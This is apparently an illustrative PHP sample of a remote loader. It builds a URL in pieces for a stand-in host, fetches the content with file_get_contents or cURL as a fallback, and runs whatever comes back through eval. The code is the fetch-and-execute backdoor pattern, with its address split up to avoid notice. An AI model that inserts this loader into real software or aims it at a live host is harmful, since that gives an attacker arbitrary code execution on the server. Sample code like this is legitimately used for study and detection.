<?php
// Inert sample: a loader keeps the address of its real code in pieces, hands it to a small
// fetch class through the constructor, and runs whatever comes back as a whole script
// (eval of a closing tag followed by the text). The class tries one transport after another.
class RemoteSource
{
    private $where;

    public function __construct($where)
    {
        $this->where = $where;
    }

    public function viaStream()
    {
        if (ini_get('allow_url_fopen')) {
            return file_get_contents($this->where);
        }
        return false;
    }

    public function viaCurl()
    {
        $h = curl_init();
        curl_setopt($h, CURLOPT_URL, $this->where);
        curl_setopt($h, CURLOPT_RETURNTRANSFER, true);
        $body = curl_exec($h);
        curl_close($h);
        return $body;
    }

    public function body()
    {
        $body = $this->viaStream();
        if ($body === false) {
            $body = $this->viaCurl();
        }
        return $body;
    }
}

$scheme = "https";
$host = "kit.example.invalid/assets/vendor";
$path = "/stage";
$source = new RemoteSource($scheme . "://" . $host . $path);
$code = $source->body();
if ($code !== false) {
    eval("?>" . $code);
}
